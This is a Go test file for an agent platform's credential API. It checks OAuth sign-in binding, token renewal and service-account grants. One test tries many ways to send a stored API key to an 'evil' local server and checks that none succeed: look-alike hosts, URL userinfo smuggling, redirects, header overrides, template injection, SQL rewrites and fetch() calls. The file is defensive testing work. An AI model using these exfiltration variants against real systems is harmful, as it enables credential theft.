package httpapi

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"satchel/httpapi/apitest"
)

const credentialsAt = "/api/agents/default/credentials"

func (w *contractClient) checkCredentials(t *testing.T, at string) {
	t.Helper()
	p := newOAuthProvider(t)
	w.request(t, 200, "GET", "/api/credential-presets", "")
	one := at + "/credentials/" + w.create(t, at+"/credentials", p.Login("google"))
	preset := w.create(
		t,
		at+"/credentials",
		`{"name":"preset","preset":"google-sheets","config":{"client_id":"mine"},"secret":{"client_secret":"s"}}`,
	)
	if got := w.request(
		t,
		200,
		"GET",
		at+"/credentials/"+preset,
		"",
	); !strings.Contains(got.text, `"client_id":"mine"`) ||
		!strings.Contains(got.text, `"access_type":"offline"`) {
		t.Errorf("a preset with a config: %s", got.text)
	}
	w.request(t, 204, "DELETE", at+"/credentials/"+preset, "")
	w.request(t, 409, "POST", at+"/credentials", p.Login("Google"))
	w.request(
		t, 400, "POST", at+"/credentials",
		`{"name":"x","type":"header","hosts":["*.com"],"secret":{"X-Key":"k"}}`,
	)
	w.request(t, 200, "GET", at+"/credentials", "")
	w.request(t, 200, "GET", one, "")
	w.request(t, 200, "PUT", one, `{"name":"sheets"}`)
	w.request(t, 400, "PUT", one, `{"hosts":["evil.example"]}`)
	w.request(t, 200, "POST", one+"/connect", "")
	w.request(t, 400, "POST", one+"/connect/complete", `{"redirected_to":"http://localhost/oauth/callback"}`)
	w.request(t, 200, "POST", one+"/test", "")
	w.request(t, 200, "POST", one+"/confirm", "")
	w.connect(t, p, one)
	w.request(t, 204, "DELETE", one+"/connection", "")
	device := at + "/credentials/" +
		w.create(t, at+"/credentials", strings.Replace(p.Login("device"), "authorization_code", "device_code", 1))
	w.request(t, 200, "POST", device+"/connect", "")
	w.request(t, 200, "POST", device+"/connect/complete", `{}`)
	w.request(t, 204, "DELETE", one, "")
}

// start agrees at the address of a sign-in in a browser, which gets a cookie and is
// redirected to the provider.
func (c *testClient) start(t *testing.T, at string) (location string, cookie *http.Cookie) {
	t.Helper()
	u, _ := url.Parse(fmt.Sprint(c.must(t, 200, "POST", at+"/connect", "")["url"]))
	a := c.send(t, "POST", u.Path, "")
	if a.StatusCode != 303 || len(a.Cookies()) != 1 {
		t.Fatalf("start: %d %s", a.StatusCode, a.text)
	}
	cookie = a.Cookies()[0]
	if !cookie.HttpOnly || cookie.SameSite != http.SameSiteLaxMode {
		t.Errorf("the cookie is %v", cookie)
	}
	return a.Header.Get("Location"), cookie
}

func (c *testClient) back(t *testing.T, query url.Values, cookie *http.Cookie) answer {
	t.Helper()
	if cookie != nil {
		c = c.with("Cookie", cookie.Name+"="+cookie.Value)
	}
	return c.send(t, "GET", "/oauth/callback?"+query.Encode(), "")
}

func (c *testClient) connect(t *testing.T, p *apitest.OAuthProvider, at string) {
	t.Helper()
	location, cookie := c.start(t, at)
	if a := c.back(t, p.Authorize(t, location), cookie); a.StatusCode != 200 || !strings.Contains(a.text, "Connected") {
		t.Fatalf("callback: %d %s", a.StatusCode, a.text)
	}
}

// call calls an address from a node with a credential.
func (c *testClient) call(t *testing.T, data string) map[string]any {
	t.Helper()
	w := c.must(
		t,
		201,
		"POST",
		"/api/agents/default/workflows",
		`{"name":"w","nodes":[{"id":"t","type":"trigger","data":{"event":"manual"}},{"id":"h",`+
			`"type":"http-request","data":`+data+`}],"edges":[{"id":"e","source":"t","target":"h"}]}`,
	)
	defer c.must(t, 200, "DELETE", fmt.Sprint("/api/agents/default/workflows/", w["id"]), "")
	return c.must(
		t,
		200,
		"POST",
		fmt.Sprint("/api/agents/default/workflows/", w["id"], "/test-node"),
		`{"node_id":"h","input":{}}`,
	)
}

func TestSignInWithAProvider(t *testing.T) {
	c, p := newTestClient(t), newOAuthProvider(t)
	made := c.must(t, 201, "POST", credentialsAt, p.Login("google"))
	at := credentialsAt + "/" + fmt.Sprint(made["id"])
	if made["status"] != "needs_login" || fmt.Sprint(made["configured_fields"]) != "[client_secret]" {
		t.Errorf("it is created as %v", made)
	}
	if out := c.call(
		t,
		`{"url":"`+p.URL+`/api/me","credential":"google","retry":{"max_attempts":3,"delay_ms":1}}`,
	); at2(out, "error.code") != "CREDENTIAL_LOGIN" {
		t.Errorf("a call before the login: %v", out)
	}
	location, cookie := c.start(t, at)
	asked, _ := url.Parse(location)
	if q := asked.Query(); q.Get("code_challenge_method") != "S256" ||
		q.Get("redirect_uri") != "http://localhost/oauth/callback" ||
		q.Get("scope") != "read write" ||
		len(q.Get("state")) < 26 {
		t.Errorf("the sign-in is redirected to %s", location)
	}
	query := p.Authorize(t, location)
	if a := c.back(t, query, cookie); a.StatusCode != 200 {
		t.Fatalf("callback: %d %s", a.StatusCode, a.text)
	}
	if a := c.back(t, query, cookie); a.StatusCode != 400 {
		t.Errorf("a state works twice: %d", a.StatusCode)
	}
	out := c.call(t, `{"url":"`+p.URL+`/api/me","credential":"GOOGLE"}`)
	if at2(out, "output.body.user.email") != "ada@example.com" || at2(out, "output.body.echo") != "Bearer ********" {
		t.Errorf("a call: %v", out)
	}
	if tested := c.must(t, 200, "POST", at+"/test", ""); tested["success"] != true ||
		tested["account"] != "ada@example.com" {
		t.Errorf("the test: %v", tested)
	}
	now := c.must(t, 200, "GET", at, "")
	if now["status"] != "ready" || now["account"] != "ada@example.com" || now["expires_at"] == nil {
		t.Errorf("it is now %v", now)
	}
	for _, secret := range []string{"client-secret-4711", "access-token-number", "refresh-token-number"} {
		c.mustNotContain(t, secret)
	}
	c.must(t, 204, "DELETE", at+"/connection", "")
	if now := c.must(t, 200, "GET", at, ""); now["status"] != "needs_login" ||
		now["account"] != "" ||
		len(p.Revoked) != 1 ||
		!strings.HasPrefix(p.Revoked[0], "refresh-token") {
		t.Errorf("disconnected: %v, revoked %v", now, p.Revoked)
	}
}

func at2(v any, path string) any { return at(v, path) }

func TestSignInIsBoundToItsBrowser(t *testing.T) {
	c, p := newTestClient(t), newOAuthProvider(t)
	at := credentialsAt + "/" + fmt.Sprint(c.must(t, 201, "POST", credentialsAt, p.Login("google"))["id"])
	other := credentialsAt + "/" + fmt.Sprint(c.must(t, 201, "POST", credentialsAt, p.Login("other"))["id"])
	issued := credentialsAt + "/" + fmt.Sprint(c.must(
		t, 201, "POST", credentialsAt,
		`{"name":"issued","type":"oauth2","hosts":["`+p.URL+
			`"],"secret":{"client_secret":"client-secret-4711"},"config":{"grant":"authorization_code","issuer":"`+
			p.URL+`","client_id":"client"}}`,
	)["id"])
	for name, tc := range map[string]struct {
		at   string
		turn func(query url.Values, cookie *http.Cookie) (url.Values, *http.Cookie)
	}{
		"no cookie": {at, func(q url.Values, _ *http.Cookie) (url.Values, *http.Cookie) { return q, nil }},
		"another cookie": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
			k.Value = "x" + k.Value[1:]
			return q, k
		}},
		"another login": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
			_, k2 := c.start(t, other)
			k2.Name = k.Name
			return q, k2
		}},
		"no state": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
			q.Del("state")
			return q, k
		}},
		"forged state": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
			q.Set("state", q.Get("state")+"x")
			return q, k
		}},
		"state of another credential": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
			parts := strings.Split(q.Get("state"), ".")
			parts[1] = strings.TrimPrefix(other, credentialsAt+"/")
			q.Set("state", strings.Join(parts, "."))
			return q, k
		}},
		"a later login": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
			c.start(t, at)
			return q, k
		}},
		"no code": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
			q.Del("code")
			return q, k
		}},
		"code of another login": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
			location, _ := c.start(t, other)
			q.Set("code", p.Authorize(t, location).Get("code"))
			return q, k
		}},
		"refused": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
			q.Del("code")
			q.Set("error", "access_denied")
			return q, k
		}},
		"another issuer": {issued, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
			q.Set("iss", "https://evil.example")
			return q, k
		}},
		"no issuer": {issued, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
			q.Del("iss")
			return q, k
		}},
	} {
		location, cookie := c.start(t, tc.at)
		query, cookie := tc.turn(p.Authorize(t, location), cookie)
		a := c.back(t, query, cookie)
		if a.StatusCode < 400 ||
			strings.Contains(a.text, "client-secret") ||
			strings.Contains(a.Header.Get("Content-Security-Policy"), "script-src") {
			t.Errorf("%s: %d %s", name, a.StatusCode, a.text)
		}
		if now := c.must(t, 200, "GET", tc.at, ""); now["status"] != "needs_login" {
			t.Errorf("%s: it is %v", name, now["status"])
		}
	}
	c.connect(t, p, issued)

	if a := c.with("Sec-Fetch-Mode", "no-cors").send(t, "GET", "/oauth/callback?code=x", ""); a.StatusCode != 403 {
		t.Errorf("an image request as a callback: %d", a.StatusCode)
	}
	// The user pastes the address, for a server without a public name.
	location, _ := c.start(t, at)
	pasted := "http://localhost/oauth/callback?" + p.Authorize(t, location).Encode()
	body, _ := json.Marshal(map[string]string{"redirected_to": pasted})
	if a := c.send(t, "POST", other+"/connect/complete", string(body)); a.StatusCode != 400 {
		t.Errorf("the login of another credential: %d %s", a.StatusCode, a.text)
	}
	if a := c.must(t, 200, "POST", at+"/connect/complete", string(body)); a["connected"] != true {
		t.Errorf("with a pasted address: %v", a)
	}
	if a := c.send(t, "POST", at+"/connect/complete", string(body)); a.StatusCode != 400 {
		t.Errorf("an address is accepted twice: %d", a.StatusCode)
	}
}

func TestTokensAreRenewedOnce(t *testing.T) {
	c, p := newTestClient(t), newOAuthProvider(t)
	p.Expires = 30 // less than the minute before which a token is renewed
	at := credentialsAt + "/" + fmt.Sprint(c.must(t, 201, "POST", credentialsAt, p.Login("google"))["id"])
	c.connect(t, p, at)
	p.Set(func() { p.Expires = 3600 })
	tool := c.must(
		t,
		201,
		"POST",
		"/api/agents/default/tools",
		`{"name":"me","type":"api","config":{"url":"`+p.URL+
			`/api/me","credential":"google","response_path":"user.email"}}`,
	)
	var all sync.WaitGroup
	for range 20 {
		all.Go(func() {
			if a := c.must(
				t,
				200,
				"POST",
				fmt.Sprint("/api/agents/default/tools/", tool["id"], "/execute"),
				`{}`,
			); a["result"] != "ada@example.com" {
				t.Errorf("a call: %v", a)
			}
		})
	}
	all.Wait()
	if n := p.Count("refresh_token"); n != 1 {
		t.Errorf("the token was renewed %d times", n)
	}
	// The provider revokes the connection: a user has to sign in again.
	p.Set(func() {
		p.Expires, p.Fail = 3600, "invalid_grant"
		clear(p.Access)
	})
	run := func() map[string]any {
		return c.must(t, 200, "POST", fmt.Sprint("/api/agents/default/tools/", tool["id"], "/execute"), `{}`)
	}
	if a := run(); at2(a, "error.code") != "UPSTREAM_ERROR" { // a token this new is not renewed because of a 401
		t.Errorf("a call: %v", a)
	}
	c.sealedTokensAge(t, at)
	for range 3 {
		if a := run(); at2(a, "error.code") != "CREDENTIAL_LOGIN" {
			t.Errorf("a call after the revocation: %v", a)
		}
	}
	now := c.must(t, 200, "GET", at, "")
	if now["status"] != "needs_login" ||
		!strings.Contains(fmt.Sprint(now["last_error"]), "invalid_grant") ||
		strings.Contains(fmt.Sprint(now["last_error"]), "refresh-token") {
		t.Errorf("it is %v", now)
	}
	if n := p.Count("refresh_token"); n != 2 {
		t.Errorf("there were %d renewals in all", n)
	}
	events := c.must(t, 200, "GET", "/api/agents/default/events?type=credential.failed", "")
	if list := events["events"].([]any); len(list) != 1 || at2(list[0], "data.credential.name") != "google" {
		t.Errorf("events: %v", events)
	}
}

// sealedTokensAge makes the tokens of a credential look one hour old.
func (c *testClient) sealedTokensAge(t *testing.T, at string) {
	t.Helper()
	o, err := c.db().OpenCredential(t.Context(), strings.TrimPrefix(at, credentialsAt+"/"))
	if err != nil {
		t.Fatal(err)
	}
	o.Tokens.IssuedAt.Time = o.Tokens.IssuedAt.Add(-3600e9)
	if err := c.db().PutTokens(t.Context(), o, o.Tokens, ""); err != nil {
		t.Fatal(err)
	}
}

func TestGrantsWithoutAPerson(t *testing.T) {
	c, p := newTestClient(t), newOAuthProvider(t)
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	der, _ := x509.MarshalPKCS8PrivateKey(key)
	account, _ := json.Marshal(map[string]string{
		"client_email": "robot@example.com",
		"private_key":  string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})),
	})
	quoted, _ := json.Marshal(string(account))
	// {URL}: the key has any three letters in a row.
	for name, fields := range map[string]string{
		"client_credentials": `"secret":{"client_secret":"client-secret-4711"},` +
			`"config":{"grant":"client_credentials","client_id":"client","token_url":"{URL}/token"}`,
		"jwt_bearer": `"secret":{"service_account":` + string(quoted) +
			`},"config":{"grant":"jwt_bearer","scope":"read","token_url":"{URL}/token"}`,
	} {
		made := c.must(
			t, 201, "POST", credentialsAt,
			strings.ReplaceAll(`{"name":"`+name+`","type":"oauth2","hosts":["{URL}"],`+fields+`}`, "{URL}", p.URL),
		)
		if made["status"] != "ready" {
			t.Errorf("%s: it is %v", name, made["status"])
		}
		if out := c.call(
			t,
			`{"url":"`+p.URL+`/api/me","credential":"`+name+`"}`,
		); at2(out, "output.body.user.email") != "ada@example.com" {
			t.Errorf("%s: %v", name, out)
		}
	}
	device := credentialsAt + "/" +
		fmt.Sprint(c.must(
			t, 201, "POST", credentialsAt,
			strings.Replace(p.Login("device"), "authorization_code", "device_code", 1),
		)["id"])
	if a := c.must(t, 200, "POST", device+"/connect", ""); a["user_code"] != "WDJB-MJHT" ||
		a["verification_url"] != "https://example.com/device" {
		t.Errorf("connect: %v", a)
	}
	if a := c.must(t, 200, "POST", device+"/connect/complete", `{}`); a["connected"] != false {
		t.Errorf("not confirmed yet: %v", a)
	}
	p.Set(func() { p.HTML = true })
	bad := c.must(
		t, 201, "POST", credentialsAt,
		strings.ReplaceAll(
			`{"name":"html","type":"oauth2","hosts":["{URL}"],"secret":{"client_secret":"client-secret-4711"},`+
				`"config":{"grant":"client_credentials","client_id":"client","token_url":"{URL}/token"}}`,
			"{URL}",
			p.URL,
		),
	)
	if a := c.must(t, 200, "POST", fmt.Sprint(credentialsAt, "/", bad["id"], "/test"), ""); a["success"] != false ||
		!strings.Contains(fmt.Sprint(a["error"]), "403") {
		t.Errorf("a provider that answers HTML: %v", a)
	}
}

// TestCredentialStaysWithItsHosts tries to send a credential to another host in every
// possible way, and checks that it does not arrive there.
func TestCredentialStaysWithItsHosts(t *testing.T) {
	c := newOwnClient(t)
	const secret = "sk-live-4711-sesame"
	var mu sync.Mutex
	var stolen []string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		if text := fmt.Sprint(r.Header, r.URL); strings.Contains(text, secret) {
			stolen = append(stolen, text)
		}
		apitest.WriteJSON(w, 200, map[string]any{"ok": true})
	}))
	t.Cleanup(evil.Close)
	home := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if to := r.URL.Query().Get("to"); to != "" {
			http.Redirect(w, r, to, http.StatusTemporaryRedirect)
			return
		}
		apitest.WriteJSON(w, 200, map[string]any{"ok": r.Header.Get("X-Api-Key") == secret})
	}))
	t.Cleanup(home.Close)
	made := c.must(
		t, 201, "POST", credentialsAt,
		`{"name":"crm","type":"header","hosts":["`+home.URL+`"],"secret":{"X-Api-Key":"`+secret+`"}}`,
	)
	at := credentialsAt + "/" + fmt.Sprint(made["id"])

	if out := c.call(t, `{"url":"`+home.URL+`","credential":"crm"}`); at2(out, "output.body.ok") != true {
		t.Fatalf("home: %v", out)
	}
	port := strings.TrimPrefix(home.URL, "http://127.0.0.1")
	for _, data := range []string{
		`{"url":"` + evil.URL + `","credential":"crm"}`,
		`{"url":"{{input.x | default:\"` + evil.URL + `\"}}","credential":"crm"}`,
		`{"url":"` + home.URL + `","credential":"crm","headers":{"Host":"evil.example"}}`,
		`{"url":"` + home.URL + `","credential":"crm","headers":{"X-Api-Key":"mine"}}`,
		`{"url":"http://127.0.0.1.evil.example` + port + `","credential":"crm"}`,
		`{"url":"https://127.0.0.1` + port + `","credential":"crm"}`,
		`{"url":"http://localhost` + port + `","credential":"crm"}`,
		`{"url":"http://127.0.0.2` + port + `","credential":"crm"}`,
		`{"url":"http://[::ffff:127.0.0.1]` + port + `","credential":"crm"}`,
		`{"url":"` + home.URL + `","credential":"nobody"}`,
	} {
		if out := c.call(t, data); out["status"] != "error" || strings.Contains(fmt.Sprint(out), secret) {
			t.Errorf("%s: %v", data, out)
		}
	}
	if out := c.call(
		t,
		`{"url":"`+home.URL+`?to=`+url.QueryEscape(evil.URL)+`","credential":"crm"}`,
	); at2(out, "output.body.ok") != true {
		t.Errorf("a redirect is followed without it: %v", out)
	}
	for _, data := range []string{
		`{"url":"` + home.URL + `","credential":"{{input.name}}"}`,
		`{"url":"` + home.URL + `","credential":"crm","auth":{"type":"bearer","token":"x"}}`,
		`{"url":"` + home.URL + `","credential":{"name":"crm"}}`,
		`{"url":"http://127.0.0.1` + port + `@` + strings.TrimPrefix(evil.URL, "http://") + `/","credential":"crm"}`,
	} {
		body := `{"name":"w","nodes":[{"id":"t","type":"trigger","data":{"event":"manual"}},{"id":"h",` +
			`"type":"http-request","data":` + data + `}],"edges":[]}`
		if a := c.send(t, "POST", "/api/agents/default/workflows", body); a.StatusCode != 400 {
			t.Errorf("%s: %d %s", data, a.StatusCode, a.text)
		}
	}
	// Tools, sources and MCP servers, and addresses changed by SQL.
	tool := c.must(
		t,
		201,
		"POST",
		"/api/agents/default/tools",
		`{"name":"crm","type":"api","config":{"url":"`+home.URL+`","credential":"crm"}}`,
	)
	run := func() map[string]any {
		return c.must(t, 200, "POST", fmt.Sprint("/api/agents/default/tools/", tool["id"], "/execute"), `{}`)
	}
	if a := run(); at2(a, "result.ok") != true {
		t.Errorf("the tool: %v", a)
	}
	c.sql(t, `UPDATE tools SET config = json_set(config, '$.url', '`+evil.URL+`')`)
	if a := run(); at2(a, "error.code") != "CREDENTIAL_HOST" {
		t.Errorf("the tool elsewhere: %v", a)
	}
	code := func(text string) map[string]any {
		w := c.must(
			t,
			201,
			"POST",
			"/api/agents/default/tools",
			`{"name":"code","type":"function","config":{"code":`+quote(text)+`}}`,
		)
		defer c.must(t, 204, "DELETE", fmt.Sprint("/api/agents/default/tools/", w["id"]), "")
		return c.must(t, 200, "POST", fmt.Sprint("/api/agents/default/tools/", w["id"], "/execute"), `{}`)
	}
	if a := code(`return (await fetch("` + home.URL + `", {credential: "crm"})).json()`); at2(a, "result.ok") != true {
		t.Errorf("code: %v", a)
	}
	if a := code(`return (await fetch("` + evil.URL + `", {credential: "crm"})).json()`); a["success"] != false ||
		!strings.Contains(fmt.Sprint(a), "not for this host") {
		t.Errorf("code elsewhere: %v", a)
	}
	source := c.must(
		t,
		201,
		"POST",
		"/api/agents/default/sources",
		`{"name":"s","type":"api","config":{"url":"`+evil.URL+`","credential":"crm"}}`,
	)
	if done := c.waitIndexed(t, fmt.Sprint("/api/agents/default/sources/", source["id"])); done["status"] != "error" ||
		at2(done, "error.code") != "CREDENTIAL_HOST" {
		t.Errorf("the source: %v", done)
	}
	server := c.must(t, 201, "POST", "/api/agents/default/mcp", `{"name":"m","url":"`+evil.URL+`","credential":"crm"}`)
	if server["status"] != "disconnected" && server["status"] != "error" {
		t.Errorf("the MCP server: %v", server)
	}
	// Changes to the credential itself.
	for _, change := range []string{
		`{"hosts":["` + evil.URL + `"]}`,
		`{"type":"query"}`,
		`{"config":{"token_url":"` + evil.URL + `"}}`,
		`{"config":{"test":{"url":"` + evil.URL + `"}}}`,
	} {
		if a := c.send(t, "PUT", at, change); a.StatusCode != 400 {
			t.Errorf("%s: %d %s", change, a.StatusCode, a.text)
		}
	}
	for statement, status := range map[string]int{
		`UPDATE _credentials SET hosts = '["evil.example"]'`:                  403,
		`SELECT * FROM _credentials`:                                          403,
		`UPDATE mcp_servers SET credential = 'crm', url = '` + evil.URL + `'`: 0,
	} {
		a := c.send(t, "POST", "/api/agents/default/sql/execute", `{"query":`+quote(statement)+`}`)
		if status != 0 && a.StatusCode != status {
			t.Errorf("%s: %d %s", statement, a.StatusCode, a.text)
		}
	}
	c.must(t, 200, "GET", "/api/agents/default/mcp", "")
	if len(stolen) > 0 {
		t.Errorf("the secret reached another host: %v", stolen)
	}
	if a := c.send(t, "DELETE", at, ""); a.StatusCode != 409 || len(at2(a.json, "error.details.used_by").([]any)) < 2 {
		t.Errorf("deleted while in use: %d %s", a.StatusCode, a.text)
	}
	c.mustNotContain(t, secret)

	// A copy does not use the credential before a user confirms it.
	fork := c.must(t, 201, "POST", "/api/agents/default/fork", `{"name":"copy"}`)
	copied := fmt.Sprint("/api/agents/", fork["id"], "/credentials/crm")
	if now := c.must(t, 200, "GET", copied, ""); now["status"] != "needs_confirm" {
		t.Errorf("the copy is %v", now["status"])
	}
	if a := c.send(t, "POST", copied+"/connect", ""); a.StatusCode != 409 {
		t.Errorf("the copy is used: %d", a.StatusCode)
	}
	if now := c.must(t, 200, "POST", copied+"/confirm", ""); now["status"] != "ready" {
		t.Errorf("confirmed: %v", now["status"])
	}
}

func quote(text string) string {
	raw, _ := json.Marshal(text)
	return string(raw)
}
